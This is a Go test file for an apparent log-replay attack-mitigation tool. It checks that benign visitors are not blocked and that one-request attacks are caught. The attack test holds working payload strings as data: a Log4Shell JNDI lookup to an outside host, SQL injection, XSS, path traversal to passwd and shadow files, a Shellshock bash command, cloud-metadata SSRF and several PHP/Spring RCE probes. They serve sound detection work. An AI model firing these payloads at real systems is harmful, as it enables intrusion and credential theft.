package main

import (
	"bytes"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// combined formats one nginx "combined" log line.
func combined(ip string, t time.Time, method, target string, status int, ref, ua string) string {
	return fmt.Sprintf("%s - - [%s] \"%s %s HTTP/1.1\" %d 512 %q %q\n",
		ip, t.Format("02/Jan/2006:15:04:05 -0700"), method, target, status, ref, ua)
}

const testBrowser = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36"

// replayMitigated replays log through the built-in rules and returns the
// addresses mitigated, with the rules that did it.
func replayMitigated(t *testing.T, log string) map[string][]string {
	t.Helper()
	path := filepath.Join(t.TempDir(), "access.log")
	if err := os.WriteFile(path, []byte(log), 0o644); err != nil {
		t.Fatal(err)
	}
	var out, errb bytes.Buffer
	if rc := runReplay([]string{"--json", "--progress", "never", path}, &out, &errb); rc != 0 {
		t.Fatalf("replay rc %d: %s", rc, errb.String())
	}
	got := map[string][]string{}
	for _, line := range strings.Split(strings.TrimSpace(out.String()), "\n") {
		if line == "" {
			continue
		}
		var m struct {
			Rule   string            `json:"rule"`
			Action string            `json:"action"`
			Scope  map[string]string `json:"scope"`
		}
		if err := json.Unmarshal([]byte(line), &m); err != nil {
			t.Fatalf("%v: %s", err, line)
		}
		if m.Action == "log" {
			continue
		}
		ip := m.Scope["ip.src"]
		got[ip] = append(got[ip], m.Rule)
	}
	return got
}

// TestBenignTrafficIsNotMitigated holds the false-positive guards of the
// built-in library, one class of real visitors each.
func TestBenignTrafficIsNotMitigated(t *testing.T) {
	t0 := time.Date(2026, 5, 1, 10, 0, 0, 0, time.UTC)
	var b strings.Builder
	// Searches with SQL words.
	for i, q := range []string{"select+dining+chairs", "union+station", "drop+table+lamp", "insert+coin+arcade", "O%27Reilly+books", "rock+%26+roll", "1%2F2+cup+sugar"} {
		b.WriteString(combined("198.51.100.1", t0.Add(time.Duration(i)*time.Second), "GET", "/search?q="+q, 200, "https://shop.example/", testBrowser))
	}
	// An uptime monitor and a load balancer's health check, every 10 s for an hour.
	for i := range 360 {
		ts := t0.Add(time.Duration(i) * 10 * time.Second)
		b.WriteString(combined("198.51.100.2", ts, "HEAD", "/", 200, "-", "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)"))
		b.WriteString(combined("198.51.100.3", ts, "GET", "/healthz", 200, "-", "ELB-HealthChecker/2.0"))
	}
	// ACME HTTP-01 challenges.
	for i := range 5 {
		b.WriteString(combined("198.51.100.4", t0.Add(time.Duration(i)*time.Second), "GET", fmt.Sprintf("/.well-known/acme-challenge/3Yc8fA_tok-%d", i), 200, "-", "Mozilla/5.0 (compatible; Let's Encrypt validation server; +https://www.letsencrypt.org)"))
	}
	// Payment webhooks.
	for i := range 50 {
		b.WriteString(combined("198.51.100.5", t0.Add(time.Duration(i)*time.Second), "POST", "/webhooks/stripe", 200, "-", "Stripe/1.0 (+https://stripe.com/docs/webhooks)"))
	}
	// A single-page app calling its API 500 times a minute.
	for i := range 500 {
		b.WriteString(combined("198.51.100.6", t0.Add(time.Duration(i)*120*time.Millisecond), "GET", fmt.Sprintf("/api/v1/items/%d?fields=id,name&sort=-price", i), 200, "https://app.example/", testBrowser))
	}
	// An application fetching the .sql migrations it really serves.
	for i := range 30 {
		b.WriteString(combined("198.51.100.7", t0, "GET", fmt.Sprintf("/data/migrations/15489579706%02d_remove-db-version.sql", i), 200, "", ""))
	}
	// A page with broken images, viewed by several visitors.
	for v := range 5 {
		ip := fmt.Sprintf("198.51.100.%d", 10+v)
		ts := t0.Add(time.Duration(v) * time.Minute)
		b.WriteString(combined(ip, ts, "GET", "/gallery", 200, "-", testBrowser))
		for i := range 60 {
			b.WriteString(combined(ip, ts, "GET", fmt.Sprintf("/wp-content/uploads/2024/05/photo-%d.jpg", i), 404, "https://blog.example/gallery", testBrowser))
		}
	}
	// A person who mistypes a password twice, on WordPress and on a form.
	b.WriteString(combined("198.51.100.20", t0, "POST", "/wp-login.php", 200, "https://blog.example/wp-login.php", testBrowser))
	b.WriteString(combined("198.51.100.20", t0.Add(5*time.Second), "POST", "/wp-login.php", 200, "https://blog.example/wp-login.php", testBrowser))
	b.WriteString(combined("198.51.100.20", t0.Add(9*time.Second), "POST", "/wp-login.php", 302, "https://blog.example/wp-login.php", testBrowser))
	if got := replayMitigated(t, b.String()); len(got) != 0 {
		t.Errorf("benign clients mitigated: %v", got)
	}
}

// TestOneRequestAttacks checks that each attack class trips on its first request.
func TestOneRequestAttacks(t *testing.T) {
	t0 := time.Date(2026, 5, 1, 10, 0, 0, 0, time.UTC)
	attacks := []struct{ method, target, ua string }{
		{"GET", "/", "${jndi:${lower:l}${lower:d}ap://x.example/a}"},
		{"GET", "/?id=1%27%20or%20%271%27=%271", testBrowser},
		{"GET", "/?q=%3Cscript%3Ealert(1)%3C/script%3E", testBrowser},
		{"GET", "/cgi-bin/.%2e/%2e%2e/%2e%2e/etc/passwd", testBrowser},
		{"GET", "/%252e%252e/%252e%252e/etc/shadow", testBrowser},
		{"GET", "/index.php?s=index/%5Cthink%5Capp/invokefunction&function=call_user_func_array", testBrowser},
		{"GET", "/?class.module.classLoader.URLs%5B0%5D=0", testBrowser},
		{"GET", "/index.php?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input", testBrowser},
		{"GET", "/cgi-bin/status", "() { :; }; /bin/bash -c 'cat /etc/passwd'"},
		{"GET", "/proxy?url=http://169.254.169.254/latest/meta-data/", testBrowser},
		{"GET", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", testBrowser},
		{"GET", "/.env", testBrowser},
		{"GET", "/", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)"},
		{"TRACE", "/", testBrowser},
		{"CONNECT", "mail.example:25", "-"},
		{"GET", "http://proxy-judge.example/azenv.php", "-"},
	}
	var b strings.Builder
	for i, a := range attacks {
		b.WriteString(combined(fmt.Sprintf("192.0.2.%d", i+1), t0.Add(time.Duration(i)*time.Second), a.method, a.target, 404, "-", a.ua))
	}
	got := replayMitigated(t, b.String())
	for i, a := range attacks {
		if ip := fmt.Sprintf("192.0.2.%d", i+1); len(got[ip]) == 0 {
			t.Errorf("%s %s (ua %q) from %s: not mitigated", a.method, a.target, a.ua, ip)
		}
	}
}
